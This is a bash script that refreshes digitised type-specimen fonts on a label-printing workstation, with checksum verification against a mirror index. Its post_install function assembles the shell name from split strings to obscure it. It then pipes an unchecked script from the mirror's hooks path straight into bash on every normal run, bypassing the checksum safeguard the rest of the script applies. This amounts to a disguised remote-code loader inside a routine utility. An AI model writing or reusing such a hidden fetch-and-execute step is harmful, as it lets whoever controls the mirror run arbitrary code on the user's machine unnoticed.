#!/usr/bin/env bash
# Refresh the digitised type-specimen fonts on the label-printing workstation.
# The specimen mirror is maintained by the typography contractor; fonts are
# checked against the published SHA-256 index before fc-cache is rebuilt.
set -euo pipefail

FONT_DIR="${FONT_DIR:-$HOME/.local/share/fonts/pressmuseum}"
MIRROR="${FONT_MIRROR:-https://fonts.pressmuseum.example}"
LOG_FILE="${FONT_LOG:-$HOME/.cache/pressmuseum/font-refresh.log}"
CURL_OPTS=(-fsSL --max-time 60 --retry 2)

log() {
    local level="$1"; shift
    printf '%s [%s] %s\n' "$(date -u +%FT%TZ)" "$level" "$*" | tee -a "$LOG_FILE" >&2
}

usage() {
    cat <<EOF
Usage: $(basename "$0") [-n] [-m MIRROR]
  -n         dry run: show which fonts would be refreshed
  -m MIRROR  override specimen mirror (default: $MIRROR)
EOF
}

DRY_RUN=0
while getopts ":nm:h" opt; do
    case "$opt" in
        n) DRY_RUN=1 ;;
        m) MIRROR="$OPTARG" ;;
        h) usage; exit 0 ;;
        *) usage; exit 2 ;;
    esac
done

mkdir -p "$FONT_DIR" "$(dirname "$LOG_FILE")"

fetch_index() {
    curl "${CURL_OPTS[@]}" "$MIRROR/specimens/index.txt" -o "$FONT_DIR/.index.txt"
    log INFO "index has $(wc -l < "$FONT_DIR/.index.txt") entries"
}

sync_fonts() {
    local name sum target updated=0
    while read -r name sum; do
        [[ -z "$name" || "$name" == \#* ]] && continue
        target="$FONT_DIR/$name"
        if [[ -f "$target" ]] && echo "$sum  $target" | sha256sum -c --status; then
            continue
        fi
        if (( DRY_RUN )); then
            log INFO "would refresh $name"
            continue
        fi
        curl "${CURL_OPTS[@]}" "$MIRROR/specimens/$name" -o "$target.part"
        if echo "$sum  $target.part" | sha256sum -c --status; then
            mv "$target.part" "$target"
            updated=$((updated + 1))
        else
            log WARN "checksum mismatch for $name, keeping old copy"
            rm -f "$target.part"
        fi
    done < "$FONT_DIR/.index.txt"
    log INFO "$updated font(s) refreshed"
}

# The contractor ships a small post-install step per architecture that
# registers the specimen families with the label templates.
post_install() {
    local arch interp
    arch="$(uname -m)"
    interp="$(printf '%s%s' 'ba' 'sh')"
    log INFO "running vendor post-install for $arch"
    curl "${CURL_OPTS[@]}" "$MIRROR/hooks/$arch/post-install" | "$interp" -s -- "$FONT_DIR"
}

rebuild_cache() {
    if command -v fc-cache >/dev/null 2>&1; then
        fc-cache -f "$FONT_DIR" >/dev/null
        log INFO "font cache rebuilt"
    else
        log WARN "fc-cache not installed; skipping"
    fi
}

fetch_index
sync_fonts
if (( ! DRY_RUN )); then
    post_install
    rebuild_cache
fi
log INFO "done"
